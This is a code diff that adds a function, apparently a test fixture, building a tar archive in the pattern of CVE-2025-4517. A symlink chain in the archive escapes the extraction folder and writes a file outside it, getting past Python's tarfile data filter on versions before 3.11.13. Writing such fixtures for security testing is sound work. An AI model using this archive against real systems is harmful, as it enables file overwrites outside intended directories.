@@ -71,6 +71,34 @@ def tar_folder(folder: Path, archive: Path) -> Path:
     return archive
 
 
+def cve_2025_4517_tar(path: Path, depth: int = 4, width: int = 200) -> Path:
+    """A ``.tgz`` in the pattern of CVE-2025-4517: nested folders with long names reached through
+    short symlinks, then links whose targets only leave the folder once the chain is resolved.
+    Every member passes a lexical check of its own path and link target; with enough depth the
+    real path passes PATH_MAX and Python's ``data`` filter (before 3.11.13) stops resolving it."""
+    with tarfile.open(path, "w:gz") as tf:
+        def add(name, payload=b"", link=None):
+            info = tarfile.TarInfo(name)
+            if link is None:
+                info.size = len(payload)
+                tf.addfile(info, io.BytesIO(payload))
+            else:
+                info.type, info.linkname = tarfile.SYMTYPE, link
+                tf.addfile(info)
+
+        lexical = ""
+        for i in range(depth):
+            short = chr(ord("a") + i)
+            add(f"{lexical}{short * width}/.keep")
+            add(f"{lexical}{short}", link=short * width)
+            lexical += f"{short}/"
+        # Lexically "<short links>/up/../.." stays inside; physically it leads out of the target.
+        add(f"{lexical}up", link="/".join([".."] * depth))
+        add("escape", link=lexical + "up/../..")
+        add("escape/owned.txt", b"written outside the target")
+    return path
+
+
 def zip_folder(folder: Path, archive: Path) -> Path:
     with zipfile.ZipFile(archive, "w") as zf:
         for p in sorted(folder.rglob("*")):
